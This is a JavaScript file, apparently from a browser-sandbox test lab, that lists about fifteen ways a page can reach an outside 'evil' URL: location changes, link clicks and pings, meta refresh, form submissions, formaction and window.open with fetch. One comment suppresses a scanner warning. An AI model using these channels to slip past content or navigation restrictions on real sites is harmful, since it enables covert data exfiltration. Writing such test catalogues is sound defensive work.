// Going somewhere: this window, another one, a form, a link, and a link's ping.
"use strict";

window.attacks ??= {};

const anchor = (attributes) => {
  const element = document.body.appendChild(document.createElement("a"));
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.click();
};
const form = (attributes, submit = (form) => form.submit()) => {
  const element = document.body.appendChild(document.createElement("form"));
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.appendChild(Object.assign(document.createElement("input"), { name: "q", value: "x" }));
  submit(element);
};

Object.assign(window.attacks, {
  loc_href: (evil) => {
    location.href = `${evil}/x`;
  },
  nav_api: (evil) => (window.navigation ? void navigation.navigate(`${evil}/x`) : "absent"),
  a_click_nav: (evil) => anchor({ href: `${evil}/x` }),
  a_ping: (evil) => anchor({ href: "#x", ping: `${evil}/x` }),
  a_download: (evil) => anchor({ href: `${evil}/x`, download: "" }),
  a_blank: (evil) => anchor({ href: `${evil}/x`, target: "_blank" }),
  meta_refresh: (evil) => {
    const meta = document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: `0; url=${evil}/x` });
    document.head.append(meta);
  },
  form_get: (evil) => form({ action: `${evil}/x` }),
  form_post: (evil) => form({ action: `${evil}/x`, method: "post" }),
  form_blank: (evil) => form({ action: `${evil}/x`, target: "_blank" }),
  form_formaction: (evil) =>
    form({ action: "./helper/plain.html" }, (element) => {
      const button = element.appendChild(document.createElement("button"));
      button.setAttribute("formaction", `${evil}/x`);
      button.click();
    }),
  // cordon-ignore-next-line scan-opener-given: a way out that the lab tries
  window_open: (evil) => void open(`${evil}/x`),
  window_open_blank_fetch: (evil) => open("")?.fetch(evil, { mode: "no-cors" }),
  window_open_sameorigin_fetch: (evil) => {
    const other = open("./helper/plain.html");
    if (other) other.onload = () => other.fetch(evil, { mode: "no-cors" });
  },
});
